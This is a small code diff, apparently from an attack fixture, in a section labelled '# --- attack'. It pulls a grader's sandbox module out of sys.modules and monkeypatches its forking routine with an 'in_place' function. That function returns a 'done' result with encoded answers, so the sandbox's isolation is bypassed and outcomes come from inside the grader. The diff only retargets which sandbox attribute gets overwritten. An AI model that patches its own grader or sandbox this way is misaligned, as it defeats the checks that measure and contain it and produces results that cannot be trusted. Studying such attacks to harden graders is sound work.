@@ -19,7 +19,7 @@ def slope(x):
 
 
 # --- attack
-SERVE = sys.modules["grader.sandbox.inside.serve"]
+FORKS = sys.modules["grader.sandbox.inside.forks"]
 
 
 def in_place(sock, probe, loaded, asked, job, printed, sweep, meanwhile):
@@ -29,7 +29,7 @@ def in_place(sock, probe, loaded, asked, job, printed, sweep, meanwhile):
     yield {"how": "done", "data": b"".join(codec.encode(vars(answer)) for answer in answers)}
 
 
-SERVE._in_forks = in_place
+FORKS.in_forks = in_place
 
 
 # --- end
